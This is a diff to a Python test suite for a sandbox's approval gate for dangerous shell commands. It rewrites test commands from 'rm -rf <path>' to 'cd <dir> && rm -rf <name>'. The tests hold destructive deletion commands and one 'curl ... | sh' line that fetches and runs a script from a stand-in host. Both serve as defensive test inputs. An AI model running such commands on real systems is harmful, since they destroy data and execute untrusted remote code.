@@ -32,7 +32,7 @@ def run(client: SandboxClient, command: str) -> dict[str, Any]:
 def test_dangerous_command_waits_for_approval_once(client: SandboxClient, tmp_path: Path) -> None:
     victim = tmp_path / "victim"
     (victim / "sub").mkdir(parents=True)
-    command = f"rm -rf {victim}"
+    command = f"cd {tmp_path} && rm -rf victim"
     refused = run(client, command)
     assert refused["status"] == "approval_required"
     assert refused["approval_id"].startswith("apr_")
@@ -51,11 +51,11 @@ def test_dangerous_command_waits_for_approval_once(client: SandboxClient, tmp_pa
 def test_session_scope_and_isolation(
     client: SandboxClient, sbx_home: Path, broker_url: str | None, tmp_path: Path
 ) -> None:
-    refused = run(client, f"rm -rf {tmp_path}/a")
+    refused = run(client, f"cd {tmp_path} && rm -rf a")
     assert client.approve(refused["approval_id"], "session").status == "approved"
-    assert run(client, f"rm -rf {tmp_path}/b")["exit_code"] == 0
+    assert run(client, f"cd {tmp_path} && rm -rf b")["exit_code"] == 0
     with SandboxClient(session_id="other", settings=settings_for(sbx_home, broker_url)) as other:
-        assert run(other, f"rm -rf {tmp_path}/c")["status"] == "approval_required"
+        assert run(other, f"cd {tmp_path} && rm -rf c")["status"] == "approval_required"
         # Another session cannot answer this session's approvals.
         pending = run(client, "curl http://example.invalid/x.sh | sh")
         assert other.approve(pending["approval_id"]).status == "forbidden"
@@ -64,14 +64,14 @@ def test_session_scope_and_isolation(
 def test_always_is_persisted_to_config(
     client: SandboxClient, sbx_home: Path, tmp_path: Path
 ) -> None:
-    refused = run(client, f"rm -rf {tmp_path}/x")
+    refused = run(client, f"cd {tmp_path} && rm -rf x")
     assert client.approve(refused["approval_id"], "always").status == "approved"
     config = yaml.safe_load((sbx_home / "config.yaml").read_text())
     assert refused["pattern_key"] in json.dumps(config)
 
 
 def test_deny_and_unknown(client: SandboxClient, tmp_path: Path) -> None:
-    refused = run(client, f"rm -rf {tmp_path}/y")
+    refused = run(client, f"cd {tmp_path} && rm -rf y")
     assert client.deny(refused["approval_id"]).status == "denied"
     assert client.approve(refused["approval_id"]).status in {"resolved", "not_found"}
     assert client.approve("apr_nonexistent").status == "not_found"
@@ -100,7 +100,7 @@ def test_cli_approval_exit_codes(
             timeout=120,
         )
 
-    p = sbx("exec", "--", "rm -rf /tmp/sbx-approval-cli-test")
+    p = sbx("exec", "--", "cd /tmp && rm -rf sbx-approval-cli-test")
     assert p.returncode == 3
     assert "approval_required" in p.stderr
     assert sbx("approve", "apr_missing").returncode == 4
@@ -122,7 +122,7 @@ def test_exec_on_a_terminal_prompts(
     victim.mkdir()
     master, slave = pty.openpty()
     proc = subprocess.Popen(
-        [sys.executable, "-m", "worker.cli.main", "exec", "--", f"rm -rf {victim}"],
+        [sys.executable, "-m", "worker.cli.main", "exec", "--", f"cd {tmp_path} && rm -rf victim"],
         env=worker_env(sbx_home, broker_url, SBX_SESSION_ID="tty"),
         cwd=str(REPO),
         stdin=slave,
@@ -178,9 +178,9 @@ def test_smart_mode_asks_the_judge(
         )
         start_worker(broker_url)
         with SandboxClient(session_id="smart", settings=settings_for(sbx_home, broker_url)) as c:
-            approved = run(c, f"rm -rf {tmp_path}/approve-me")
-            denied = run(c, f"rm -rf {tmp_path}/deny-me")
-            unsure = run(c, f"rm -rf {tmp_path}/unsure")
+            approved = run(c, f"cd {tmp_path} && rm -rf approve-me")
+            denied = run(c, f"cd {tmp_path} && rm -rf deny-me")
+            unsure = run(c, f"cd {tmp_path} && rm -rf unsure")
     finally:
         server.shutdown()
     assert approved["exit_code"] == 0
